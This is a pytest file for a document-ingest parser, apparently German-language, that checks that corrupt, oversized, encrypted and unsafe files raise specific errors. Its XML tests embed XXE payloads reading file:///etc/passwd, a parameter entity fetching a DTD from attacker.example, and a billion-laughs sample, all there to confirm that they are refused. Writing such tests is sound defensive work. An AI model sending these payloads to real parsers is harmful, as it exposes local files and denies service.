"""Bad input: every case raises a specific IngestError subclass with a reason that names the problem."""

from __future__ import annotations

import io
import random

import openpyxl
import pytest
from reportlab.lib import pdfencrypt
from reportlab.pdfgen import canvas

from kontor.servers.ingest.handlers import parse
from kontor.servers.ingest.handlers.xml_safe import parse as parse_xml
from kontor.servers.ingest.model import CorruptFile, LimitExceeded, UnsafeContent, UnsupportedType
from kontor.settings import Limits
from tests.samples import BILLION_LAUGHS

LIMITS = Limits()


def make_pdf(pages: int, encrypt: object | None = None) -> bytes:
    buf = io.BytesIO()
    c = canvas.Canvas(buf, encrypt=encrypt)
    for number in range(1, pages + 1):
        c.drawString(72, 720, f"Seite {number} mit etwas Text, damit die Datei nicht winzig ist.")
        c.showPage()
    c.save()
    return buf.getvalue()


def test_truncated_pdf() -> None:
    data = make_pdf(3)
    with pytest.raises(CorruptFile, match="truncated"):
        parse(data[: len(data) // 2], "halb.pdf", LIMITS)


def test_garbage_after_pdf_header() -> None:
    data = b"%PDF-1.7\n" + random.Random(2).randbytes(5000) + b"\n%%EOF\n"
    with pytest.raises(CorruptFile, match="PDF"):
        parse(data, "muell.pdf", LIMITS)


def test_empty_file_with_pdf_name() -> None:
    with pytest.raises(CorruptFile, match="file is empty"):
        parse(b"", "leer.pdf", LIMITS)


def test_random_bytes_are_unsupported() -> None:
    data = random.Random(1).randbytes(64 * 1024)
    with pytest.raises(UnsupportedType, match="not a supported format"):
        parse(data, "bericht.pdf", LIMITS)


def test_pdf_over_page_limit() -> None:
    with pytest.raises(LimitExceeded, match="2 pages, more than the limit of 1"):
        parse(make_pdf(2), "zwei.pdf", Limits(max_pages=1))
    assert parse(make_pdf(1), "eins.pdf", Limits(max_pages=1)).pages == 1


def test_encrypted_pdf() -> None:
    locked = make_pdf(1, encrypt=pdfencrypt.StandardEncryption("geheim", ownerPassword="owner"))
    with pytest.raises(CorruptFile, match="password-protected"):
        parse(locked, "gesperrt.pdf", LIMITS)
    # Only an owner password (empty user password): readable.
    open_pdf = make_pdf(1, encrypt=pdfencrypt.StandardEncryption("", ownerPassword="owner"))
    doc = parse(open_pdf, "offen.pdf", LIMITS)
    assert "Seite 1" in doc.text


def test_file_size_limit() -> None:
    with pytest.raises(LimitExceeded, match="more than the limit of 10"):
        parse(b"Ein Text, der laenger als zehn Bytes ist", "x.txt", Limits(max_file_bytes=10))


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE daten [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<daten><wert>&xxe;</wert></daten>"""

XXE_BMECAT = b"""<?xml version="1.0"?>
<!DOCTYPE BMECAT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<BMECAT version="1.2"><T_NEW_CATALOG><ARTICLE><SUPPLIER_AID>&xxe;</SUPPLIER_AID></ARTICLE></T_NEW_CATALOG>
</BMECAT>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE daten [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<daten>x</daten>"""


def test_billion_laughs() -> None:
    with pytest.raises(UnsafeContent, match="entit"):
        parse(BILLION_LAUGHS, "lol.xml", LIMITS)


@pytest.mark.parametrize(("data", "name"), [(XXE, "xxe.xml"), (XXE_BMECAT, "katalog.xml"),
                                            (PARAMETER_ENTITY, "pe.xml")])
def test_external_entities_are_refused_and_never_read(data: bytes, name: str) -> None:
    with pytest.raises(UnsafeContent) as info:
        parse(data, name, LIMITS)
    assert "root:" not in info.value.reason
    assert "entit" in info.value.reason


def test_xml_entity_check_also_in_utf16() -> None:
    data = XXE.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    with pytest.raises(UnsafeContent):
        parse_xml(data.encode("utf-16"), "xxe16.xml", LIMITS)


def test_doctype_without_entities_is_fine_and_not_loaded() -> None:
    data = b'<?xml version="1.0"?><!DOCTYPE daten SYSTEM "file:///etc/passwd"><daten><a>1</a></daten>'
    doc = parse(data, "ok.xml", LIMITS)
    assert doc.text == "a: 1"


def test_xml_size_limit() -> None:
    data = b"<daten>" + b"<a>x</a>" * 100 + b"</daten>"
    with pytest.raises(LimitExceeded, match="more than the limit of 100"):
        parse(data, "gross.xml", Limits(max_xml_bytes=100))


def test_malformed_xml() -> None:
    with pytest.raises(CorruptFile, match="not well-formed"):
        parse(b'<?xml version="1.0"?><daten><a>1</b></daten>', "kaputt.xml", LIMITS)


def test_csv_row_limit() -> None:
    data = b"a;b\n" + b"".join(f"{i};x\n".encode() for i in range(5))
    with pytest.raises(LimitExceeded, match="more than 2 rows"):
        parse(data, "x.csv", Limits(max_rows=2))
    assert parse(data, "x.csv", Limits(max_rows=5)).metadata["rows"] == 5


def test_xlsx_row_limit() -> None:
    wb = openpyxl.Workbook()
    for i in range(10):
        wb.active.append([i, f"Zeile {i}"])
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(LimitExceeded, match="rows"):
        parse(buf.getvalue(), "x.xlsx", Limits(max_rows=5))


def test_broken_json() -> None:
    with pytest.raises(CorruptFile, match="JSON is not valid"):
        parse(b'{"a": [1, 2', "x.json", LIMITS)
    with pytest.raises(CorruptFile, match="line 2 is not valid JSON"):
        parse(b'{"a": 1}\n{"a": \n{"a": 3}\n', "x.jsonl", LIMITS)


def test_broken_docx_and_xlsx() -> None:
    buf = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document>kein xml")
    with pytest.raises(CorruptFile, match="DOCX"):
        parse(buf.getvalue(), "kaputt.docx", LIMITS)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("xl/workbook.xml", "<workbook>kaputt")
    with pytest.raises(CorruptFile, match="XLSX"):
        parse(buf.getvalue(), "kaputt.xlsx", LIMITS)


def test_unsupported_known_binary() -> None:
    pytest.importorskip("filetype")
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(30)
    with pytest.raises(UnsupportedType, match="image/png"):
        parse(png, "bild.png", LIMITS)


def test_legacy_office_is_unsupported_with_a_hint() -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    with pytest.raises(UnsupportedType, match="legacy Office"):
        parse(ole, "alt.doc", LIMITS)
